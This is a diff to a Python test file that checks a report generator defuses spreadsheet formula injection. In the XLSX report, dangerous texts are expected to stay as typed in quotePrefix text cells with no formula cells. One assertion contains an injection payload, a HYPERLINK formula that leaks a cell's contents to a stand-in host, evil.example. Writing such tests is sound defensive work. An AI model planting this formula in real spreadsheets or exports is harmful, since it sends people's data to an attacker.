@@ -1,6 +1,7 @@
 """Report cells cannot run formulas. Names, ids, e-mail addresses, extra columns and error
-texts that start with = + - @, a tab or a carriage return come back in the reports with a
-leading apostrophe; the XLSX report has no formula cell at all."""
+texts that start with = + - @, a tab or a carriage return come back in the CSV report with a
+leading apostrophe; in the XLSX report they are text cells marked to stay text (quotePrefix),
+shown as typed, and the workbook has no formula cell at all."""
 
 from __future__ import annotations
 
@@ -33,6 +34,15 @@ async def report(sandbox: Sandbox, tmp_path: Path) -> Path:
 def csv_rows(folder: Path) -> list[list[str]]:
     with (folder / "report.csv").open(encoding="utf-8-sig", newline="") as handle:
         return list(csv.reader(handle))
+
+
+def quoted_styles(folder: Path) -> set[str]:
+    """The style indexes (cell s="...") whose format keeps a cell's text a text when edited."""
+    with zipfile.ZipFile(folder / "report.xlsx") as book:
+        root = ElementTree.fromstring(book.read("xl/styles.xml"))
+    xfs = root.find(f"{MAIN}cellXfs")
+    assert xfs is not None
+    return {str(n) for n, xf in enumerate(xfs) if xf.get("quotePrefix") == "1"}
 
 
 def xlsx_cells(folder: Path) -> list[tuple[str, ElementTree.Element, str]]:
@@ -86,9 +96,14 @@ async def test_xlsx_report_has_no_formula_and_every_dangerous_text_is_defused(
     assert body
     assert [ref for ref, cell, _ in body if cell.find(f"{MAIN}f") is not None] == []
     assert [ref for ref, cell, _ in body if cell.get("t") in ("str", "e")] == []
-    assert [(ref, text) for ref, _, text in body if text.startswith(DANGEROUS)] == []
-    defused = [text for _, _, text in body if text.startswith("'")]
-    assert sum(text[1:].startswith(DANGEROUS) for text in defused) >= 15
+    # shown as typed, in text cells that stay text: no apostrophe added to the value
+    quoted = quoted_styles(report)
+    dangerous = [(ref, cell) for ref, cell, text in body if text.startswith(DANGEROUS)]
+    assert len(dangerous) >= 15
+    assert [ref for ref, cell in dangerous if cell.get("t") not in ("inlineStr", "s")] == []
+    assert [ref for ref, cell in dangerous if cell.get("s") not in quoted] == []
+    texts = [text for _, _, text in body]
+    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' in texts
 
 
 async def test_report_headers_are_defused_too(report: Path) -> None:
@@ -96,4 +111,7 @@ async def test_report_headers_are_defused_too(report: Path) -> None:
     assert [cell for cell in header if cell.startswith(DANGEROUS)] == []
     first = [(ref, cell, text) for ref, cell, text in xlsx_cells(report) if _row(ref) == 1]
     assert [ref for ref, cell, _ in first if cell.find(f"{MAIN}f") is not None] == []
-    assert [text for _, _, text in first if text.startswith(DANGEROUS)] == []
+    quoted = quoted_styles(report)
+    dangerous = [(ref, cell) for ref, cell, text in first if text.startswith(DANGEROUS)]
+    assert dangerous  # the file's own headers, as typed
+    assert [ref for ref, cell in dangerous if cell.get("s") not in quoted] == []
